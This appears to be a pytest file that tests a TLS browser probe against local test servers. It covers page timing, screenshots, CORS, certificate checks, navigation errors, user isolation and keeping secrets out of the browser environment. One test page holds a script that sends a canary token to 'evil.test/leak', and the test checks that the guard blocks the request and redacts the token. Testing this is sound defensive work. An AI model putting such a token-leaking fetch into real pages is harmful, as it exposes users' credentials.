"""The browser probe against loopback pages over TLS."""

import asyncio
import os
import shutil
import sys
import time
from collections.abc import Awaitable, Callable
from datetime import timedelta
from pathlib import Path

import pytest

from golive.browser import trust as browser_trust
from golive.browser.executable import find_browser
from golive.browser.observation import PageObservation
from golive.browser.probe import BrowserProbe
from golive.browser.trust import browser_environment, private_home
from golive.cli.needs import succeeds
from golive.core.outcome import Blind, Effect
from golive.net.access import Access
from golive.net.errors import (
    ConnectFailed,
    DeadlineExceeded,
    NameNotFound,
    Refused,
    TlsFailed,
)
from golive.net.guard import current_effect
from rehearsal.lab.authority import root
from rehearsal.lab.serving import Handler, serving, silent
from selftests.examples.probe_loopback import CANARY, Pki, access_to, answering, server_context

APP, API, OTHER = "audotics.test", "api.audotics.test", "evil.test"
PAGE = f"https://{APP}/"
HTML = ("Content-Type: text/html",)
pytestmark = pytest.mark.usefixtures("writing")


def browser_here() -> bool:
    try:
        find_browser()
    except Blind:
        return False
    return True


def nss_here() -> bool:
    return succeeds(sys.executable, "-c", "import ctypes; ctypes.CDLL('libnss3.so')")


needs_browser = pytest.mark.skipif(not browser_here(), reason="no browser on this machine")


def reach(trust: Pki, ports: dict[str, int], *, hosts: tuple[str, ...] = (APP, API)) -> Access:
    addresses = {f"{host}:443": (f"127.0.0.1:{port}",) for host, port in ports.items()}
    return access_to(addresses, roots=trust.roots, hosts=hosts)


Visit = Callable[[BrowserProbe], Awaitable[PageObservation]]


async def one_page(probe: BrowserProbe) -> PageObservation:
    async with probe.user() as user:
        return await user.goto(PAGE)


def visit(
    trust: Pki, handler: Handler, folder: Path, do: Visit = one_page, **options: object
) -> PageObservation:
    async def attempt() -> PageObservation:
        async with serving(handler, trust.context(APP)) as port:
            probe = BrowserProbe(reach(trust, {APP: port}), screenshots=folder, **options)  # type: ignore[arg-type]
            try:
                return await do(probe)
            finally:
                await probe.aclose()

    return asyncio.run(attempt())


@needs_browser
def test_a_page_is_seen_with_its_times(trust: Pki, tmp_path: Path) -> None:
    body = b"<!doctype html><link rel=icon href=data:,><h1>Hello</h1><input type=password>"

    async def do(probe: BrowserProbe) -> PageObservation:
        async with probe.user() as user:
            seen = await user.goto(PAGE)
            assert await user.page.get_by_role("heading").inner_text() == "Hello"
            assert await user.screenshot("Sign in / done") == "Sign-in-done.jpg"
            return seen

    seen = visit(trust, answering(body, headers=HTML), tmp_path, do)
    assert (seen.status, seen.requests, seen.hosts) == (200, 1, (APP,))
    assert seen.load_ms is not None
    assert seen.first_byte_ms is not None
    assert 0 < seen.first_byte_ms <= seen.load_ms < 3000
    assert (seen.console_errors, seen.page_errors, seen.failed_requests, seen.refused) == ((), (), (), ())
    assert (tmp_path / "Sign-in-done.jpg").stat().st_size > 1000


@needs_browser
def test_each_look_of_a_page_is_written_once(trust: Pki, tmp_path: Path) -> None:
    """Also where another user has the picture; and what is scrolled to is what is seen."""
    body = b"<!doctype html><link rel=icon href=data:,><h1>Up</h1><h1 style='margin-top: 300vh'>Down</h1>"

    async def do(probe: BrowserProbe) -> list[str]:
        names = []
        async with probe.user() as one, probe.user() as other, probe.user(phone=(390, 844)) as phone:
            for user in (one, other, phone):
                await user.goto(PAGE)
                names.append(await user.screenshot("page"))
            await one.page.get_by_text("Down").scroll_into_view_if_needed()
            names.append(await one.screenshot("page"))
            await one.page.evaluate("scrollTo(0, 0)")
            names.append(await one.screenshot("page"))
        return names

    seen = visit(trust, answering(body, headers=HTML), tmp_path, do)
    assert seen == ["page.jpg", "page.jpg", "page-2.jpg", "page-3.jpg", "page.jpg"]
    assert max(path.stat().st_size for path in tmp_path.glob("*.jpg")) < 40_000


@needs_browser
def test_what_goes_wrong_on_a_page_is_seen(trust: Pki, tmp_path: Path) -> None:
    body = f"""<!doctype html><link rel=icon href=data:,><script>
      console.error("token {CANARY}-eyJhbGciOi.eyJ.x"); fetch("/missing?token={CANARY}");
      fetch("https://{OTHER}/leak?token={CANARY}").catch(() => 0);
      fetch("https://{API}/down").catch(() => 0);
      setTimeout(() => {{ throw new Error("boom") }}, 0);
    </script>""".encode()

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            request = await reader.readuntil(b"\r\n\r\n")
            good = request.startswith(b"GET / ")
            status, text = ("200 OK", body) if good else ("404 Not Found", b"")
            head = f"HTTP/1.1 {status}\r\nContent-Type: text/html\r\nContent-Length: {len(text)}\r\n\r\n"
            writer.write(head.encode() + text)

    async def do(probe: BrowserProbe) -> PageObservation:
        async with probe.user() as user:
            await user.goto(PAGE)
            await asyncio.sleep(0.3)
            return await user.observe()

    seen = visit(trust, handle, tmp_path, do)
    assert [entry.outcome for entry in seen.error_responses] == ["404"]
    assert any("boom" in text for text in seen.page_errors)
    assert seen.console_errors
    assert [entry.url.split("?")[0] for entry in seen.refused] == [f"https://{OTHER}/leak"]
    assert [entry.url for entry in seen.failed_requests] == [f"https://{API}/down"]
    assert seen.hosts == (API, APP, OTHER)
    assert CANARY not in repr((seen.refused[0].__str__(), seen.facts()["refused by the guard"], seen.title))
    assert CANARY not in repr(seen.facts()["error responses"])


@needs_browser
def test_a_preflight_reaches_the_server(trust: Pki, tmp_path: Path) -> None:
    methods: list[bytes] = []

    async def api(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        request = await reader.readuntil(b"\r\n\r\n")
        methods.append(request.split(b" ")[0])
        writer.write(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n")
        await writer.drain()

    script = f'fetch("https://{API}/x", {{method: "DELETE"}}).catch(() => 0)'
    body = f"<!doctype html><link rel=icon href=data:,><script>{script}</script>".encode()

    async def attempt() -> PageObservation:
        async with (
            serving(answering(body, headers=HTML), trust.context(APP)) as app,
            serving(api, trust.context(API)) as other,
        ):
            probe = BrowserProbe(reach(trust, {APP: app, API: other}), screenshots=tmp_path)
            try:
                async with probe.user() as user:
                    await user.goto(PAGE)
                    await asyncio.sleep(0.3)
                    return await user.observe()
            finally:
                await probe.aclose()

    seen = asyncio.run(attempt())
    assert methods == [b"OPTIONS"]
    assert any("CORS" in text for text in seen.console_errors)


@needs_browser
def test_a_reading_check_cannot_write_from_a_page(trust: Pki, tmp_path: Path) -> None:
    received: list[bytes] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            request = await reader.readuntil(b"\r\n\r\n")
            received.append(request.split(b" ")[0])
            script = b"fetch('/x', {method: 'POST', body: 'x'}).catch(() => 0)"
            text = b"<link rel=icon href=data:,><script>" + script + b"</script>"
            writer.write(
                f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(text)}\r\n\r\n".encode()
                + text
            )

    async def do(probe: BrowserProbe) -> PageObservation:
        token = current_effect.set(Effect.READ)
        async with probe.user() as user:
            current_effect.reset(token)
            await user.goto(PAGE)
            await asyncio.sleep(0.2)
            return await user.observe()

    seen = visit(trust, handle, tmp_path, do)
    assert received == [b"GET"]
    assert "declares effect 'read'" in seen.refused[0].outcome


@needs_browser
@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("wrong host", "hostname does not match"),
        ("expired", "certificate expired"),
        ("untrusted", "issuer unknown"),
    ],
)
def test_certificates_are_verified(trust: Pki, tmp_path: Path, case: str, words: str) -> None:
    issuer = root("Stranger") if case == "untrusted" else trust.intermediate
    context = server_context(
        tmp_path,
        issuer,
        "other.test" if case == "wrong host" else APP,
        starts_in=timedelta(days=-9 if case == "expired" else -1),
        lifetime=timedelta(days=3),
        sent=(issuer,),
    )

    async def attempt() -> None:
        async with serving(answering(), context) as port:
            probe = BrowserProbe(reach(trust, {APP: port}), screenshots=tmp_path)
            try:
                await one_page(probe)
            finally:
                await probe.aclose()

    with pytest.raises(TlsFailed, match=words):
        asyncio.run(attempt())


@needs_browser
def test_errors_of_navigation_are_typed_and_bounded(trust: Pki, tmp_path: Path) -> None:
    async def attempt() -> list[str]:
        async with serving(silent, trust.context(APP)) as port:
            access = reach(trust, {APP: port, API: 1}, hosts=(APP, API, "nowhere.invalid"))
            probe = BrowserProbe(access, screenshots=tmp_path, navigation_deadline=0.4)
            said = []
            try:
                for url, expected in (
                    (f"{PAGE}?token={CANARY}", DeadlineExceeded),
                    (f"https://{API}/?token={CANARY}", ConnectFailed),
                    ("https://nowhere.invalid/", NameNotFound),
                    (f"https://{OTHER}/?token={CANARY}", Refused),
                ):
                    async with probe.user() as user:
                        started = time.monotonic()
                        with pytest.raises(expected) as failure:
                            await user.goto(url, deadline=3 if expected is NameNotFound else None)
                        assert time.monotonic() - started < 3.5
                        said.append(str(failure.value))
                return said
            finally:
                await probe.aclose()

    assert CANARY not in "".join(asyncio.run(attempt()))


@needs_browser
def test_two_users_share_nothing_and_everything_ends(trust: Pki, tmp_path: Path) -> None:
    body = b"<!doctype html><link rel=icon href=data:,><p>x"
    homes: list[Path] = []

    async def do(probe: BrowserProbe) -> PageObservation:
        async with probe.user() as one, probe.user() as two:
            await asyncio.gather(one.goto(PAGE), two.goto(PAGE))
            await one.page.evaluate("localStorage.setItem('a', 'b')")
            assert await two.page.evaluate("localStorage.getItem('a')") is None
            assert probe._home is not None
            homes.append(probe._home)
            return await two.observe()

    visit(trust, answering(body, headers=HTML), tmp_path, do)
    assert not homes[0].exists()


def test_without_a_browser_the_probe_is_blind_and_says_how_to_get_one(tmp_path: Path) -> None:
    with pytest.raises(Blind) as blind:
        find_browser(environ={"PATH": str(tmp_path)})
    assert "apt-get install chromium-headless-shell" in blind.value.remedy
    assert "playwright install" in blind.value.remedy
    with pytest.raises(Blind, match="GOLIVE_BROWSER names"):
        find_browser(environ={"PATH": str(tmp_path), "GOLIVE_BROWSER": "/nowhere/chrome"})


def test_where_playwrights_driver_does_not_start_the_probe_is_blind_and_says_why(
    trust: Pki, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    node = tmp_path / "node"
    for last in (
        "echo 'node: error while loading shared libraries' >&2; exit 127",
        "exit 0",
        "echo nonsense",
    ):
        node.write_text(f"#!/bin/sh\n{last}\n", encoding="ascii")
        node.chmod(0o755)
        monkeypatch.setenv("PLAYWRIGHT_NODEJS_PATH", str(node))
        with pytest.raises(Blind, match="Playwright's driver does not start") as blind:
            visit(trust, answering("<p>hello", headers=HTML), tmp_path)
        assert "apt-get install libatomic1" in blind.value.remedy


def test_the_named_browser_comes_before_the_bundled_and_the_path(tmp_path: Path) -> None:
    shell = tmp_path / "chromium_headless_shell-1" / "linux" / "headless_shell"
    for file in (shell, tmp_path / "bin" / "chromium", tmp_path / "mine"):
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("#!/bin/sh\n", encoding="ascii")
        file.chmod(0o755)
    path = {"PATH": str(tmp_path / "bin")}
    bundled = str(tmp_path / "chromium-1" / "chrome-linux" / "chrome")
    assert (
        find_browser(bundled, environ=path | {"GOLIVE_BROWSER": str(tmp_path / "mine")}) == tmp_path / "mine"
    )
    assert find_browser(bundled, environ=path) == shell
    assert find_browser(None, environ=path) == tmp_path / "bin" / "chromium"


def test_the_browsers_environment_holds_no_secret(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("GOLIVE_LISTENER_PASSWORD", CANARY)
    environment = browser_environment(tmp_path)
    assert CANARY not in repr(environment)
    assert environment["HOME"] == str(tmp_path)


@pytest.mark.skipif(not nss_here(), reason="libnss3 is not installed here")
def test_libnss3_alone_lets_the_browser_trust_every_root(
    trust: Pki, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    roots = tmp_path / "roots.pem"
    roots.write_text(trust.roots.read_text(encoding="ascii") * 2, encoding="ascii")
    monkeypatch.setenv("PATH", str(tmp_path))
    for file in (trust.roots, roots):
        home, sees_trust = asyncio.run(private_home(file))
        assert sees_trust
        assert (home / ".pki" / "nssdb" / "cert9.db").stat().st_size > 0
        shutil.rmtree(home)


@pytest.mark.skipif(os.uname().sysname != "Linux", reason="NSS is Chromium's on Linux only")
def test_without_nss_the_probe_is_blind(trust: Pki, monkeypatch: pytest.MonkeyPatch) -> None:
    async def fails(*_: str) -> bool:
        return False

    monkeypatch.setattr(browser_trust, "_run", fails)
    with pytest.raises(Blind, match="cannot be made to trust"):
        asyncio.run(private_home(trust.roots))
